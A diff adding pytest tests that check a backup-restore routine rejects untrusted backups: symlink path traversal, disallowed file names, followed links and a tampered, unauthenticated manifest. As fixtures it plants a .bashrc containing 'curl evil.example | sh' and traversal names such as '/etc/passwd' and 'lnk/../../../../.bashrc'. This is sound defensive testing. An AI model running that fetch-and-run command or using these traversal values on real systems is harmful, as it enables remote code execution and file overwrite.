@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -74,3 +75,110 @@ def test_restore_refuses_a_changed_backup_and_an_occupied_profile(tmp_path: Path
     (copy / "audit.key").write_text("0" * 64, encoding="ascii")
     with pytest.raises(StoreError, match=r"audit\.key: missing or changed"):
         restore(copy, Paths.resolve(tmp_path / "elsewhere"))
+
+
+# ---- an untrusted backup folder (a USB stick, a colleague) ------------------------------
+
+
+def _backup(tmp_path: Path, *, documents: bool = False) -> Path:
+    copy = tmp_path / "backup"
+    with Workspace.open(tmp_path / "source") as ws:
+        if documents:
+            ws.ingest([write_text(tmp_path / "docs", "nda.txt", NDA_EN)], matter="Acme")
+        audit.append(ws._conn, {"question": "q"}, audit_id=audit.new_audit_id(), matter_id=None)
+        backup(ws, copy)
+    return copy
+
+
+def _manifest(copy: Path) -> dict[str, Any]:
+    data: dict[str, Any] = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
+    return data
+
+
+def _rewrite(copy: Path, manifest: dict[str, Any]) -> None:
+    (copy / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+
+
+def test_restore_cannot_write_outside_the_profile_through_a_link(tmp_path: Path) -> None:
+    """The red team's case: a link in the backup folder and a manifest name that climbs
+    out of the profile through it overwrote the user's ~/.bashrc (exit 0)."""
+    copy = _backup(tmp_path)
+    home = tmp_path / "home"
+    bashrc = home / ".bashrc"
+    bashrc.parent.mkdir()
+    bashrc.write_text("# the user's own\n", encoding="utf-8")
+    (copy / "d1" / "d2" / "d3" / "d4").mkdir(parents=True)
+    (copy / "lnk").symlink_to("d1/d2/d3/d4")
+    (copy / ".bashrc").write_text("curl evil.example | sh\n", encoding="utf-8")
+    manifest = _manifest(copy)
+    manifest["files"]["lnk/../../../../.bashrc"] = sha256_of(copy / ".bashrc")
+    _rewrite(copy, manifest)
+    profile = home / "d1" / "d2" / "d3"
+    with pytest.raises(StoreError, match="not a file a LetaDesk backup writes"):
+        restore(copy, Paths.resolve(profile))
+    assert bashrc.read_text(encoding="utf-8") == "# the user's own\n"
+    assert sorted(p.name for p in profile.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../outside.txt",
+        "/etc/passwd",
+        "tantivy/../x",
+        "tantivy/sub/meta.json",
+        "notes.txt",
+        "tantivy/.tantivy-writer.lock",
+        "letadesk.sqlite3/",
+        "",
+        "tantivy\\meta.json",
+    ],
+)
+def test_restore_accepts_only_the_names_a_backup_writes(tmp_path: Path, name: str) -> None:
+    copy = _backup(tmp_path)
+    manifest = _manifest(copy)
+    manifest["files"][name] = "0" * 64
+    _rewrite(copy, manifest)
+    profile = Paths.resolve(tmp_path / "restored")
+    with pytest.raises(StoreError, match="not a file a LetaDesk backup writes"):
+        restore(copy, profile)
+    assert list(profile.root.iterdir()) == []
+
+
+def test_restore_never_follows_a_link_in_the_backup(tmp_path: Path) -> None:
+    """A listed file that is a link, even to a file of the right content, is refused;
+    so is a link standing for the lexical index's folder."""
+    copy = _backup(tmp_path, documents=True)
+    key = copy / "audit.key"
+    elsewhere = tmp_path / "elsewhere.key"
+    key.rename(elsewhere)
+    key.symlink_to(elsewhere)
+    with pytest.raises(StoreError, match="not a regular file"):
+        restore(copy, Paths.resolve(tmp_path / "r1"))
+    key.unlink()
+    elsewhere.rename(key)
+    (copy / "tantivy").rename(tmp_path / "real-tantivy")
+    (copy / "tantivy").symlink_to(tmp_path / "real-tantivy")
+    with pytest.raises(StoreError, match="a symbolic link is never followed"):
+        restore(copy, Paths.resolve(tmp_path / "r2"))
+    assert not (tmp_path / "r1" / "letadesk.sqlite3").exists()
+    assert not (tmp_path / "r2" / "letadesk.sqlite3").exists()
+
+
+def test_restore_authenticates_the_manifest(tmp_path: Path) -> None:
+    """Every hash still matches, but the manifest was edited: its HMAC under the backup's
+    audit key no longer does. A manifest without the key is refused too."""
+    copy = _backup(tmp_path)
+    manifest = _manifest(copy)
+    assert manifest["format"] == 2 and len(manifest["mac"]) == 64
+    manifest["counts"]["documents"] = 99
+    _rewrite(copy, manifest)
+    with pytest.raises(StoreError, match="not authenticated"):
+        restore(copy, Paths.resolve(tmp_path / "r1"))
+    manifest = _manifest(copy)
+    del manifest["files"]["audit.key"]
+    _rewrite(copy, manifest)
+    with pytest.raises(StoreError, match="not authenticated"):
+        restore(copy, Paths.resolve(tmp_path / "r2"))
+    assert not (tmp_path / "r1" / "letadesk.sqlite3").exists()
+    assert not (tmp_path / "r2" / "letadesk.sqlite3").exists()
